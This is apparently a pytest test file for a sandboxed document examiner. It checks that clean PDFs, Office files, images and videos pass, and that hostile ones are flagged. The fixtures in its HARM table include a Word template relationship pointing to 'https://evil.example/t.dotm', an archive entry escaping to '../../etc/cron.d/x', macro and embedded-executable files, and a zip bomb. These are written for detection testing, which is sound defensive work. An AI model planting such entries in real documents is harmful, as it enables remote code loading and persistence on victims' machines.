"""What is looked into: whole files pass, and each kind of harm is called by its name."""

import json
import subprocess
import sys
from io import BytesIO
from pathlib import Path

import pytest
from PIL import Image
from pypdf import PdfReader, PdfWriter
from pypdfium2 import PdfiumError

from livinglab.evidence.adapters import examiner
from livinglab.evidence.adapters.sandbox import __main__ as sandbox
from livinglab.evidence.adapters.sandbox import pdf, pictures
from livinglab.evidence.adapters.sandbox.findings import Finding, Refused
from livinglab.evidence.domain.formats import Fault, Format
from tests.evidence import files


def fault(kind: Format, content: bytes, folder: Path) -> Fault | None:
    path = folder / "file"
    path.write_bytes(content)
    try:
        return sandbox.examined(kind, path).fault
    except Refused as refused:
        return refused.fault


WHOLE = [
    (Format.PDF, files.pdf(3)),
    (Format.PNG, files.picture()),
    (Format.JPEG, files.picture("JPEG")),
    (Format.WEBP, files.picture("WEBP")),
    (
        Format.DOCX,
        files.office("docx", {"word/media/image1.png": files.picture(), "word/theme.bin": b"\0" * 9000}),
    ),
    (Format.XLSX, files.office("xlsx")),
    (Format.PPTX, files.office("pptx", {"ppt/embeddings/Microsoft_Excel_Sheet.xlsx": files.office("xlsx")})),
    (Format.ODT, files.open_document("text")),
    (Format.ODS, files.open_document("spreadsheet")),
    (Format.MP4, files.film()),
    (Format.CSV, "kode,nama\n14.08,Siak – Riau\n".encode()),
    (Format.TXT, b"\xef\xbb\xbfCatatan"),
]


@pytest.mark.parametrize(("kind", "content"), WHOLE, ids=[str(kind) for kind, _content in WHOLE])
def test_a_whole_file_passes(kind: Format, content: bytes, tmp_path: Path) -> None:
    assert fault(kind, content, tmp_path) is None


REMOTE = (
    b'<Relationships><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    b'attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)
HARM = {
    "script in a PDF": (Format.PDF, files.pdf_with_script(), Fault.PDF_ACTS),
    "PDF that starts a program": (Format.PDF, files.pdf_that_starts_a_program(), Fault.PDF_ACTS),
    "PDF with an attachment": (Format.PDF, files.pdf_with_attachment(), Fault.PDF_CARRIES),
    "PDF with a password": (Format.PDF, files.pdf_with_password(), Fault.LOCKED),
    "PDF cut off": (Format.PDF, files.pdf(2)[:200], Fault.DAMAGED),
    "PDF of a head only": (Format.PDF, b"%PDF-1.7\n", Fault.DAMAGED),
    "PDF and archive": (Format.PDF, files.pdf() + files.packed({"a.exe": b"MZ"}), Fault.TWO_IN_ONE),
    "picture cut off": (Format.PNG, files.picture()[:-30], Fault.DAMAGED),
    "picture and page": (Format.PNG, files.picture() + b"<html>", Fault.TWO_IN_ONE),
    "photograph cut off": (Format.JPEG, files.picture("JPEG")[:300], Fault.DAMAGED),
    "picture of 3.6 billion pixels": (Format.PNG, files.huge_picture(), Fault.DAMAGED),
    "page as picture": (Format.WEBP, b"RIFF\0\0\0\0WEBP<script>", Fault.DAMAGED),
    "document with macros": (Format.DOCX, files.office(macros=True), Fault.MACROS),
    "macros without saying so": (Format.DOCX, files.office(more={"word/vbaProject.bin": b"x"}), Fault.MACROS),
    "ActiveX": (Format.DOCX, files.office(more={"word/activeX/activeX1.xml": b"x"}), Fault.MACROS),
    "macros in OpenDocument": (
        Format.ODT,
        files.packed({"mimetype": b"application/vnd.oasis.opendocument.text", "Basic/Standard/a.xml": b"x"}),
        Fault.MACROS,
    ),
    "program in a document": (
        Format.DOCX,
        files.office(more={"word/embeddings/a.exe": b"MZ"}),
        Fault.EMBEDDED,
    ),
    "object in a document": (
        Format.DOCX,
        files.office(more={"word/embeddings/oleObject1.bin": b"x"}),
        Fault.EMBEDDED,
    ),
    "template from elsewhere": (
        Format.DOCX,
        files.office(more={"word/_rels/settings.xml.rels": REMOTE}),
        Fault.REMOTE,
    ),
    "bomb": (Format.DOCX, files.bomb(), Fault.BOMB),
    "thousands of parts": (
        Format.XLSX,
        files.office("xlsx", {f"xl/a{n}.xml": b"" for n in range(5001)}),
        Fault.BOMB,
    ),
    "way out of the folder": (Format.DOCX, files.office(more={"../../etc/cron.d/x": b"x"}), Fault.DAMAGED),
    "archive as document": (Format.DOCX, files.packed({"a.pdf": b"x"}), Fault.NAME_LIES),
    "sheet as document": (Format.DOCX, files.office("xlsx"), Fault.NAME_LIES),
    "text as sheet": (Format.ODS, files.open_document("text"), Fault.NAME_LIES),
    "document cut off": (Format.DOCX, files.office()[:-40], Fault.DAMAGED),
    "film cut off": (Format.MP4, files.film()[:-10], Fault.DAMAGED),
    "film without description": (Format.MP4, files.film()[:32], Fault.DAMAGED),
    "list that is not UTF-8": (Format.CSV, "naïf".encode("latin-1"), Fault.NOT_UTF8),
    "page behind a long text": (Format.TXT, b"a" * 9000 + b"<SCRIPT>", Fault.WEB_PAGE),
    "NUL behind a long text": (Format.TXT, b"a" * 9000 + b"\0", Fault.NAME_LIES),
}


@pytest.mark.parametrize("name", sorted(HARM))
def test_harm_is_called_by_its_name(name: str, tmp_path: Path) -> None:
    kind, content, expected = HARM[name]
    assert fault(kind, content, tmp_path) is expected


def test_the_pages_of_a_pdf_are_counted(tmp_path: Path) -> None:
    path = tmp_path / "a"
    path.write_bytes(files.pdf(7))
    assert pdf.examined(path) == Finding(pages=7)


def test_a_pdf_that_only_forbids_printing_is_no_locked_one(tmp_path: Path) -> None:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.encrypt("", "owner", algorithm="AES-256")
    out = BytesIO()
    writer.write(out)
    assert fault(Format.PDF, out.getvalue(), tmp_path) is None


def test_a_file_is_looked_into_in_a_process_without_our_secrets(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = tmp_path / "a"
    path.write_bytes(files.pdf(2))
    seen: dict[str, object] = {}
    run = subprocess.run

    def watched(*args: object, **kwargs: object) -> object:
        seen.update(kwargs)
        return run(*args, **kwargs)  # type: ignore[call-overload]

    monkeypatch.setattr(subprocess, "run", watched)
    assert examiner.examined(Format.PDF, path) == Finding(pages=2)
    environment = seen["env"]
    assert isinstance(environment, dict)
    assert set(environment) == {"PYTHONPATH", "PYTHONDONTWRITEBYTECODE", "PYTHONUTF8"}


def test_what_outlasts_its_time_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = tmp_path / "a"
    path.write_bytes(files.pdf(1))
    monkeypatch.setattr(examiner, "SECONDS", 0.001)
    assert examiner.examined(Format.PDF, path) == Finding(fault=Fault.TOO_SLOW)
    with pytest.raises(examiner.NotDrawn, match="longer than"):
        examiner.preview(Format.PDF, path, page=1)


def test_what_wants_too_much_memory_or_writes_files_is_stopped() -> None:
    greedy = (
        "import json\n"
        "from livinglab.evidence.adapters.sandbox import __main__ as s\n"
        "s.limit()\n"
        "said = []\n"
        "try:\n    bytearray(s.MEMORY)\n    said.append('memory')\nexcept MemoryError:\n    pass\n"
        "import signal, os, tempfile\n"
        "signal.signal(signal.SIGXFSZ, signal.SIG_IGN)\n"
        "try:\n    f = tempfile.TemporaryFile(buffering=0)\n    f.write(b'x')\n    said.append('file')\n"
        "except OSError:\n    pass\n"
        "print(json.dumps(said))\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", greedy],
        env={"PYTHONPATH": "src"},
        capture_output=True,
        check=True,
        text=True,
    )
    assert json.loads(done.stdout) == []


def test_a_preview_is_a_small_picture_of_the_page_asked_for(tmp_path: Path) -> None:
    path = tmp_path / "a"
    path.write_bytes(files.pdf(2))
    for page in (1, 2):
        with Image.open(BytesIO(pdf.preview(path, page))) as picture:
            assert (picture.format, picture.size) == ("WEBP", (990, 1400))
    with pytest.raises(PdfiumError):
        pdf.preview(path, 3)
    path.write_bytes(files.picture("PNG", (4000, 2000)))
    with Image.open(BytesIO(pictures.preview(Format.PNG, path))) as picture:
        assert picture.size == (1000, 500)


def test_a_preview_carries_nothing_that_the_camera_wrote(tmp_path: Path) -> None:
    path = tmp_path / "a"
    exif = Image.Exif()
    exif[0x8298] = "Rina Wulandari"  # copyright
    Image.new("RGB", (50, 50)).save(path, "JPEG", exif=exif)
    assert b"Rina Wulandari" in path.read_bytes()
    assert b"Rina Wulandari" not in pictures.preview(Format.JPEG, path)


def test_a_marked_pdf_says_on_every_page_who_opened_it(tmp_path: Path) -> None:
    path = tmp_path / "a"
    path.write_bytes(files.pdf(3))
    text = "Dikecualikan · dibuka oleh Rina (demo) \\ 21.11.2026 10:00 WIB · catatan 12"
    pages = PdfReader(BytesIO(pdf.marked(path, text))).pages
    assert len(pages) == 3
    assert all(one.extract_text().count(text) >= 5 for one in pages)


def test_a_marked_picture_keeps_its_format_and_size_and_differs(tmp_path: Path) -> None:
    path = tmp_path / "a"
    for kind in (Format.PNG, Format.JPEG, Format.WEBP):
        path.write_bytes(files.picture(kind.upper()))
        with Image.open(BytesIO(pictures.marked(kind, path, "dibuka oleh Rina"))) as picture:
            assert (picture.format, picture.size) == (kind.upper(), (400, 300))
            assert len(picture.convert("RGB").getcolors(100_000) or []) > 10  # it was of one colour
